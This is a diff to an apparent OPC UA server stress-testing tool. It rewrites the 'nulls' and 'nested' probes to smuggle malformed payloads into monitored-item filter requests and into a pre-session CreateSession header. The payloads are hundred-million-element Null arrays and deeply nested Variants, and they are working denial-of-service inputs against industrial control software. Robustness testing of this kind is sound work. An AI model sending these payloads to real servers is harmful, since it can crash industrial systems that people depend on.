@@ -293,23 +293,30 @@ async def big_reads(at: Target) -> Found:
     return found
 
 
+def _items_with(bomb: bytes, node: ua.NodeId, token: ua.NodeId) -> bytes:
+    """A request that anybody with a session may make, with a Variant of these bytes in a filter."""
+    request = ua.CreateMonitoredItemsRequest()
+    item = ua.MonitoredItemCreateRequest(ItemToMonitor=ua.ReadValueId(node, ua.AttributeIds.Value))
+    item.RequestedParameters.Filter = ua.LiteralOperand(ua.Variant(1.0))
+    request.Parameters.ItemsToCreate = [item]
+    request.RequestHeader.AuthenticationToken = token
+    size, plain = struct.pack("<i", 9), b"\x0b" + struct.pack("<d", 1.0)
+    body: bytes = struct_to_binary(request)
+    return body.replace(size + plain, struct.pack("<i", len(bomb)) + bomb)
+
+
 async def nulls(at: Target) -> Found:
-    """Arrays of a hundred million Nulls, in a Write and, before any session, in a header."""
+    """Arrays of a hundred million Nulls, in a filter and, before any session, in a header."""
     found: Found = Counter()
     bomb = b"\x80" + struct.pack("<i", 100_000_000)
-    write = ua.WriteRequest()
-    write.Parameters.NodesToWrite = [ua.WriteValue(at.node, 13, None, ua.DataValue(ua.Variant(1.0)))]
-    inner = ua.WriteRequest()
-    inner.Parameters.NodesToWrite = write.Parameters.NodesToWrite
-    body = struct_to_binary(inner).replace(b"\x0b" + struct.pack("<d", 1.0), bomb)
+    body = _items_with(bomb, at.node, ua.NodeId())
     create = struct_to_binary(ua.CreateSessionRequest())
     extension = b"\x01\x00" + body[2:4] + b"\x01" + struct.pack("<i", len(body)) + body
     no_more = create.index(b"\0\0\0", 40)
     client = await Raw.active(at.port)
     stranger = await Raw.channel(at.port)
     for _ in range(int(100 * at.scale)):
-        write.RequestHeader.AuthenticationToken = client.authentication
-        sent = struct_to_binary(write).replace(b"\x0b" + struct.pack("<d", 1.0), bomb)
+        sent = _items_with(bomb, at.node, client.authentication)
         found["taken" if await client.ask_bytes(sent) == 0 else "refused"] += 1
         early = create[:no_more] + extension + create[no_more + 3 :]
         found["early taken" if await stranger.ask_bytes(early) == 0 else "early refused"] += 1
@@ -470,9 +477,6 @@ async def nested(at: Target) -> Found:
     """Variants in Variants, ExtensionObjects in ExtensionObjects, thousands deep."""
     client = await Raw.active(at.port)
     found: Found = Counter()
-    write = ua.WriteRequest()
-    write.Parameters.NodesToWrite = [ua.WriteValue(at.node, 13, None, ua.DataValue(ua.Variant(1.0)))]
-    plain = b"\x0b" + struct.pack("<d", 1.0)
     deep = b"\x98\x01\x00\x00\x00" * 10_000 + b"\x01\x01"
     inner = b"\x01\x01"
     for _ in range(3000):
@@ -480,8 +484,7 @@ async def nested(at: Target) -> Found:
     wide = b"\x98" + struct.pack("<i", 60_000) + b"\x98\x01\x00\x00\x00\x00" * 60_000
     for _ in range(int(100 * at.scale)):
         for bomb in (deep, inner, wide):
-            write.RequestHeader.AuthenticationToken = client.authentication
-            sent = struct_to_binary(write).replace(plain, bomb)
+            sent = _items_with(bomb, at.node, client.authentication)
             found["taken" if await client.ask_bytes(sent) == 0 else "refused"] += 1
             if client.ended:
                 client = await Raw.active(at.port)
